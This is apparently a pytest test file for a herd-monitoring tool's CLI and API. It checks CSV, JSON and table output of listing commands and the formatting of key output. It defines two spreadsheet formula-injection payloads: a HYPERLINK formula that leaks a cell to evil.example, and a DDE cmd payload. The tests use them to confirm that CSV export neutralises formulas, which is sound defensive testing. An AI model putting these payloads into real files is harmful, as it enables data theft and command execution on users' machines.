"""Every listing command, scriptable: --format table|csv|json|jsonl through the CLI runner,
values never cut in a pipe, CSV safe to open in a spreadsheet, keys alone on stdout."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from conftest import service_settings
from herdrecord._version import __version__
from herdrecord.cli import app
from herdrecord.lookup.animals import get_animal
from herdrecord.lookup.review_queue import margin_reason
from herdrecord.server import create_app
from herdrecord.store.record import open_record

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Herd:
    path: str
    edge_key: str
    admin_key: str


@pytest.fixture(scope="module")
def herd(tmp_path_factory: pytest.TempPathFactory) -> Herd:
    """Nine days of a simulated pen (enough for flagged days), a hostile event, two keys."""
    from herdrecord.simulation import SimulationConfig, simulate, write_simulation

    folder = tmp_path_factory.mktemp("listings")
    config = SimulationConfig(
        animals=6,
        pens=1,
        days=9,
        seed=5,
        keyframes=False,
        obs_interval_s=120.0,
        lameness_rate_per_day=0.05,
        # Field-like identity (one sample per tracklet, a weak look): the queue has close calls
        # (at 0.15 the linker is now sure of nearly every link, and right: the queue is empty).
        samples_per_tracklet_max=1,
        identity_norm=0.10,
    )
    sim = simulate(config)
    files = write_simulation(sim, folder / "sim")
    path = str(folder / "herd")
    assert runner.invoke(app, ["init", path]).exit_code == 0
    ingested = runner.invoke(app, ["ingest", path, str(files.batches_dir)])
    assert ingested.exit_code == 0, ingested.output
    relinked = runner.invoke(app, ["link", path, "--all"])  # every decision written again
    assert relinked.exit_code == 0, relinked.output
    event = runner.invoke(
        app,
        [
            *("event", "add", path, "--animal", "P00001", "--kind", "diagnosis"),
            *("--at", "2026-09-02T08:00Z", "--note", HYPERLINK, "--code", DDE),
        ],
    )
    assert event.exit_code == 0, event.output
    runner.invoke(app, ["cameras", "overlap", path, "pen-1", "cam1", "cam2"])
    edge = runner.invoke(
        app, ["keys", "add", path, "edge-01", "--role", "edge", "--device", "dev-01"]
    )
    admin = runner.invoke(app, ["keys", "add", path, "me", "--role", "admin", "--by", "vet"])
    assert edge.exit_code == 0 and admin.exit_code == 0, edge.output + admin.output
    return Herd(path, edge.stdout.strip(), admin.stdout.strip())


# Each listing, with the column that names its rows (an id a script passes back).
LISTINGS: list[tuple[list[str], str]] = [
    (["animals"], "animal_id"),
    (["review", "list", "--limit", "500"], "tracklet"),
    (["history", "{path}", "P00001"], "tracklet"),
    (["event", "list"], "event_id"),
    (["info"], "table"),
    (["budget"], "table"),
    (["days"], "animal_days"),
    (["days", "--flagged"], "animal_id"),
    (["keys", "list"], "key_id"),
    (["journal"], "entry_id"),
    (["farm"], "farm_id"),
    (["pens"], "pen_id"),
    (["cameras", "list"], "pen_id"),
    (["timeline", "{path}", "P00001"], "day"),
]


def _args(command: list[str], path: str) -> list[str]:
    """Put the record after the command's words (or where {path} says)."""
    if "{path}" in command:
        return [path if word == "{path}" else word for word in command]
    words = [w for w in command if not w.startswith("--")]
    depth = 2 if words[0] in ("review", "keys", "cameras", "event") else 1
    return [*command[:depth], path, *command[depth:]]


def _json(args: list[str]) -> Any:
    return json.loads(_run([*args, "--format", "json"]).stdout)


def _run(args: list[str]) -> Any:
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize(("command", "key"), LISTINGS, ids=[" ".join(c) for c, _ in LISTINGS])
def test_every_listing_round_trips_through_csv_and_json(
    herd: Herd, command: list[str], key: str
) -> None:
    args = _args(command, herd.path)
    as_json = json.loads(_run([*args, "--format", "json"]).stdout)
    lines = [json.loads(line) for line in _run([*args, "--format", "jsonl"]).stdout.splitlines()]
    as_csv = list(csv.DictReader(io.StringIO(_run([*args, "--format", "csv"]).stdout)))
    assert isinstance(as_json, list) and as_json == lines
    assert [row[key] for row in as_csv] == [str(row[key]) for row in as_json]
    if command[0] not in ("journal", "cameras"):  # the journal may be empty; cameras not
        assert as_json, f"{command}: no rows"
    assert set(as_csv[0]) == set(as_json[0]) if as_csv else True


@pytest.mark.parametrize(("command", "key"), LISTINGS, ids=[" ".join(c) for c, _ in LISTINGS])
def test_a_piped_listing_cuts_no_value(
    herd: Herd, command: list[str], key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The runner's stdout is no terminal, as a pipe is; a narrow COLUMNS must not cut it.
    monkeypatch.setenv("COLUMNS", "60")
    args = _args(command, herd.path)
    table = _run(args).stdout
    assert "…" not in table
    for row in json.loads(_run([*args, "--format", "json"]).stdout):
        if row[key] is not None and command[0] not in ("budget", "days", "info"):
            assert str(row[key]) in table  # the id whole, as `review confirm` needs it


ANSI = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize(
    ("command", "key"),
    [(["review", "list"], "tracklet"), (["history", "{path}", "P00001"], "tracklet")],
)
def test_a_narrow_terminal_wraps_other_columns_but_keeps_ids_whole(
    herd: Herd, command: list[str], key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich's switch: write as to a terminal
    monkeypatch.setenv("COLUMNS", "72")
    args = _args(command, herd.path)
    table = ANSI.sub("", _run([*args, "--limit", "5"]).stdout)
    assert max(len(line) for line in table.splitlines()) <= 72
    monkeypatch.delenv("TTY_COMPATIBLE")
    for row in json.loads(_run([*args, "--limit", "5", "--format", "json"]).stdout):
        assert row[key] in table


def test_review_list_states_the_queue_size_and_follows_its_rank(herd: Herd) -> None:
    listed = _run(["review", "list", herd.path, "--limit", "100000", "--format", "json"])
    every = json.loads(listed.stdout)
    assert len(every) > 3
    shown = _run(["review", "list", herd.path, "--limit", "3"])
    assert f"3 of {len(every)} open questions shown" in shown.stdout
    stakes = [row["minutes_at_stake"] for row in every]
    assert stakes == sorted(stakes, reverse=True)
    assert [row["rank"] for row in every] == list(range(1, len(every) + 1))
    ranked = _run(["review", "list", herd.path, "--limit", "3", "--format", "csv"])
    assert [r["tracklet"] for r in csv.DictReader(io.StringIO(ranked.stdout))] == [
        row["tracklet"] for row in every[:3]
    ]
    assert "3 of" in ranked.stderr and "3 of" not in ranked.stdout
    # Help is drawn for a reader at the terminal's width; read it at a wide one here.
    helped = runner.invoke(app, ["review", "list", "-h"], env={"COLUMNS": "200"}).stdout
    assert "minutes at stake" in helped.lower() and "negative margin" in helped.lower()


def test_history_folds_repeats_and_takes_limit_and_since(herd: Herd) -> None:
    decisions = json.loads(_run(["history", herd.path, "P00001", "--format", "json"]).stdout)
    assert any(d["times"] > 1 for d in decisions)  # `link --all` wrote each decision again
    keys = [(d["tracklet"], d["animal_id"], d["method"], d["decided_by"]) for d in decisions]
    assert len(keys) == len(set(keys))  # no run of one decision shows twice
    latest = json.loads(
        _run(["history", herd.path, "P00001", "--limit", "2", "--format", "json"]).stdout
    )
    assert latest == decisions[-2:]
    since = decisions[-1]["decided_at"]
    recent = json.loads(
        _run(["history", herd.path, "P00001", "--since", since, "--format", "json"]).stdout
    )
    assert recent and all(d["decided_at"] >= since for d in recent)
    future = _run(["history", herd.path, "P00001", "--since", "2999-01-01"])
    assert "0 decisions" in future.stdout
    bad = runner.invoke(app, ["history", herd.path, "P00001", "--since", "yesterday"])
    assert bad.exit_code == 2 and "--since 'yesterday'" in bad.output


def test_history_says_when_a_tag_read_confirmed_the_identity(herd: Herd) -> None:
    record = open_record(herd.path)
    animals = [get_animal(record, a["animal_id"]) for a in _json(["animals", herd.path])]
    confirmed = [a for a in animals if a.identity_confirmed_by is not None]
    assert confirmed, "the simulated pen reads ear tags: some animal is confirmed by one"
    animal = confirmed[0]
    assert animal.identity_confirmed_at is not None
    line = (
        f"{animal.animal_id}: identity confirmed by a tag read of {animal.tag_id} on "
        f"{animal.identity_confirmed_at:%Y-%m-%d %H:%M} UTC ({animal.identity_confirmed_by})"
    )
    table = _run(["history", herd.path, animal.animal_id]).stdout
    assert line in table
    (marked,) = [row for row in table.splitlines() if "identity confirmed" in row and "│" in row]
    assert str(animal.identity_confirmed_by) in marked
    # The line stays when --limit leaves the confirming decision out; scripts get a column.
    assert line in _run(["history", herd.path, animal.animal_id, "--limit", "1"]).stdout
    rows = _json(["history", herd.path, animal.animal_id])
    assert [r["tracklet"] for r in rows if r["confirms_identity"]] == [animal.identity_confirmed_by]
    for other in animals:
        if other.identity_confirmed_by is None:
            assert "identity confirmed" not in _run(["history", herd.path, other.animal_id]).stdout


@pytest.mark.parametrize(
    ("margin", "said"),
    [
        (-0.000118, "close call: tied with the runner-up"),
        (0.0, "close call: tied with the runner-up"),
        (-0.012, "runner-up looks 0.012 more alike (margin -0.012)"),
        (0.031, "only 0.031 ahead of the runner-up (margin 0.031)"),
    ],
)
def test_the_why_words_a_margin(margin: float, said: str) -> None:
    # The seed-1 demo's queue opened with "close call (margin -0.000)" at a score of 0.500:
    # the linked animal 0.0001 below the runner-up, which a person reads as a tie.
    assert said in margin_reason(margin)


def test_the_api_states_the_queue_total_as_the_cli_does(herd: Herd, client: TestClient) -> None:
    every = _json(["review", "list", herd.path, "--limit", "100000"])
    shown = _run(["review", "list", herd.path, "--limit", "2"]).stdout
    assert f"2 of {len(every)} open questions shown" in shown
    admin = {"Authorization": f"Bearer {herd.admin_key}"}
    answer = client.get("/v1/review", params={"limit": 2}, headers=admin)
    assert answer.status_code == 200, answer.text
    queue = answer.json()
    assert queue["total"] == len(every) > 2  # the queue's size, not the items shown
    assert [
        f"{i['tracklet']['device_id']}:{i['tracklet']['track_id']}" for i in queue["items"]
    ] == [row["tracklet"] for row in every[:2]]
    assert [i["reason"] for i in queue["items"]] == [row["reason"] for row in every[:2]]


def test_days_flagged_lists_the_flagged_animal_days(herd: Herd) -> None:
    summary = json.loads(_run(["days", herd.path, "--format", "json"]).stdout)[0]
    flagged = json.loads(_run(["days", herd.path, "--flagged", "--format", "json"]).stdout)
    assert summary["flagged_animal_days"] == len(flagged) > 0
    assert all(row["anomalies"] for row in flagged)
    table = _run(["days", herd.path, "--flagged"]).stdout
    assert f"{len(flagged)} flagged animal-days" in table
    assert flagged[0]["animal_id"] in table and str(flagged[0]["day"]) in table


def test_pens_lists_head_count_devices_and_last_upload(herd: Herd) -> None:
    (pen,) = json.loads(_run(["pens", herd.path, "--format", "json"]).stdout)
    animals = json.loads(_run(["animals", herd.path, "--format", "json"]).stdout)
    assert pen["pen_id"] == "pen-1" and pen["devices"] == ["dev-01"]
    assert pen["animals"] == sum(a["status"] == "active" for a in animals)
    assert pen["last_upload"] is not None and pen["tracklets"] > 0


def test_keys_add_prints_the_key_alone_on_stdout(herd: Herd) -> None:
    assert re.fullmatch(r"hr_[0-9a-f]{12}_\S+", herd.edge_key)
    made = _run(["keys", "add", herd.path, "reader-1", "--role", "analyst"])
    assert re.fullmatch(r"hr_[0-9a-f]{12}_\S+\n", made.stdout)
    assert "made an analyst key for reader-1" in made.stderr
    vet = _run(["keys", "add", herd.path, "dr-who", "--role", "vet"])
    assert "made a vet key for dr-who" in vet.stderr and "made" not in vet.stdout
    listed = json.loads(_run(["keys", "list", herd.path, "--format", "json"]).stdout)
    assert {"edge-01", "me", "reader-1"} <= {k["name"] for k in listed}
    assert next(k for k in listed if k["name"] == "edge-01")["devices"] == ["dev-01"]


def test_version_and_short_help() -> None:
    assert _run(["--version"]).stdout == f"herdrecord {__version__}\n"
    assert "Usage" in _run(["-h"]).stdout
    assert "Usage" in _run(["review", "list", "-h"]).stdout


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


SQL = (
    "SELECT note, code, -3.5 AS delta, '-2' AS minus_two, '@SUM(A1)' AS at, 1 AS \"+one\" "
    "FROM events WHERE note IS NOT NULL"
)


def _check_inert(text: str) -> None:
    (row,) = _csv_rows(text)
    assert row["note"] == "'" + HYPERLINK and row["code"] == "'" + DDE
    assert row["delta"] == "-3.5" and row["minus_two"] == "-2"  # numbers stay numbers
    assert row["at"] == "'@SUM(A1)" and row["'+one"] == "1"  # a column's name is a cell too
    assert ",-3.5," in text  # unquoted: a spreadsheet reads it as a number


def test_sql_csv_neutralises_formulas_but_not_numbers(herd: Herd) -> None:
    _check_inert(_run(["sql", herd.path, SQL, "--format", "csv"]).stdout)
    listed = _csv_rows(_run(["event", "list", herd.path, "--format", "csv"]).stdout)
    assert [(e["note"], e["code"]) for e in listed] == [("'" + HYPERLINK, "'" + DDE)]
    # JSON is not for spreadsheets: the note comes out as it was written.
    (row,) = json.loads(_run(["sql", herd.path, SQL, "--format", "json"]).stdout)
    assert row["note"] == HYPERLINK


@pytest.fixture
def client(herd: Herd) -> Iterator[TestClient]:
    with TestClient(create_app(service_settings(Path(herd.path)))) as client:
        yield client


def test_the_api_csv_neutralises_formulas_but_not_numbers(herd: Herd, client: TestClient) -> None:
    response = client.post(
        "/v1/sql",
        params={"format": "csv"},
        json={"sql": SQL},
        headers={"Authorization": f"Bearer {herd.admin_key}"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    _check_inert(response.text)
